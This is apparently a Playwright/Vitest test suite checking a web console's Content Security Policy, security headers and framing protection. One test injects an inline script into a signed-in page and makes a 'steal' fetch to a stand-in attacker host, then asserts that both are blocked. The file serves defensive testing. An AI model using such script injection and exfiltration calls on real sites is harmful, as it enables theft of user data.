import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  apiAsDemo,
  apiUrl,
  consoleUrl,
  launch,
  newPage,
  openPage,
  signedInPage,
  takeCspViolations,
} from './browser.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
});

/** The policy as a map of directive name to its sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name!, sources]),
  );
}

describe('security headers', () => {
  it.each(['/login', '/app/accounts', '/app/accounts/1/overview', '/app/user_profile', '/app/nowhere'])(
    '%s sends a policy that allows only the console, its API and hashed inline scripts',
    async (path) => {
      const response = await fetch(`${consoleUrl()}${path}`);
      expect(response.status).toBe(200);
      const policy = directives(response.headers.get('content-security-policy') ?? '');
      const api = new URL(apiUrl()).origin;
      const scripts = policy.get('script-src') ?? [];
      expect(scripts[0]).toBe("'self'");
      expect(scripts.slice(1).every((source) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(source))).toBe(true);
      expect(policy.get('style-src')?.some((source) => /unsafe/.test(source))).toBe(false);
      expect(policy.get('connect-src')).toEqual(["'self'", api]);
      // No ANALYTICS_SITE_URL in the suite: the API serves the embedded dashboard page.
      expect(policy.get('frame-src')).toEqual([api]);
      expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
      expect(policy.get('object-src')).toEqual(["'none'"]);
      expect(policy.get('base-uri')).toEqual(["'none'"]);
      expect(policy.get('default-src')).toEqual(["'self'"]);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
      expect(response.headers.get('permissions-policy')).toContain('camera=()');
    },
  );

  // One setting for the API's address (PUBLIC_API_URL; unset in the suite, as under `npm start`): the page's policy,
  // the address the page gives the browser and the frame address the API hands out all name the same API.
  it.each(['localhost', '127.0.0.1'])(
    'at http://%s, allows calls and frames on the API address the page gives and the API frames the dashboard at',
    async (host) => {
      const at = (url: string) => Object.assign(new URL(url), { hostname: host }).origin;
      const api = at(apiUrl());
      const response = await fetch(`${at(consoleUrl())}/app/tcr`);
      expect(response.status).toBe(200);
      const policy = directives(response.headers.get('content-security-policy') ?? '');
      expect(policy.get('connect-src')).toEqual(["'self'", api]);
      expect(policy.get('frame-src')).toEqual([api]);
      // The page names the API's port only; the browser puts it on the host it opened the page at (src/api/config.ts).
      const html = await response.text();
      expect(html.match(/<meta name="api-port" content="(\d+)"/)?.[1]).toBe(new URL(apiUrl()).port);
      expect(html).not.toContain('api-base-url');
      // The API, with no public address configured, answers the frame as a path on the address it was called at.
      const token = await apiAsDemo('/third_party/metabase/dashboard_token?ignore_account=true&dashboard_id=484');
      const { embed_url } = (await token.json()) as { embed_url: string };
      expect(embed_url).toMatch(/^\/embed\/dashboard\//);
      expect(new URL(`${api}${embed_url}`).origin).toBe(api);
    },
  );

  it('sends the headers on redirects too', async () => {
    const response = await fetch(`${consoleUrl()}/`, { redirect: 'manual' });
    expect(response.status).toBe(302);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
  });

  it('refuses a script injected into a signed-in page, and calls to any other host', async () => {
    const page = await signedInPage(browser);
    await openPage(page, '/app/accounts');
    await page.getByRole('heading', { name: 'Accounts', level: 1 }).waitFor();
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = localStorage.length';
      document.head.append(script);
      const call = await fetch('https://attacker.example/steal').then(
        () => 'sent',
        () => 'refused',
      );
      return { ran: '__injected' in window, call };
    });
    expect(outcome).toEqual({ ran: false, call: 'refused' });
    // Each refusal is reported by Chromium and by the page's securitypolicyviolation event; all of them are taken
    // here (the suite's check fails a test on any), and the page is closed so that none comes later.
    const reported: string[] = [];
    const everyReport = [
      /Executing inline script violates the following Content Security Policy directive 'script-src/,
      /Connecting to 'https:\/\/attacker\.example\/steal' violates the following Content Security Policy directive/,
      /CSP violation: script-src\S* blocked inline/,
      /CSP violation: connect-src blocked https:\/\/attacker\.example\/steal/,
    ];
    await expect
      .poll(() => {
        reported.push(...takeCspViolations());
        return everyReport.filter((report) => !reported.some((line) => report.test(line))).map(String);
      })
      .toEqual([]);
    await page.context().close();
    takeCspViolations();
  });

  it('cannot be framed by another site', async () => {
    const page = await newPage(browser);
    // A page on another origin (the API's) that frames the console's sign-in page.
    await page.route(`${apiUrl()}/framing-test`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${consoleUrl()}/login" title="console"></iframe>`,
      }),
    );
    await page.goto(`${apiUrl()}/framing-test`);
    const framed = () => page.frames().find((frame) => frame !== page.mainFrame());
    // Chromium puts its error page in the frame instead of the console.
    await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
    expect(await framed()?.title()).not.toContain('Rescue Console');
  });
});
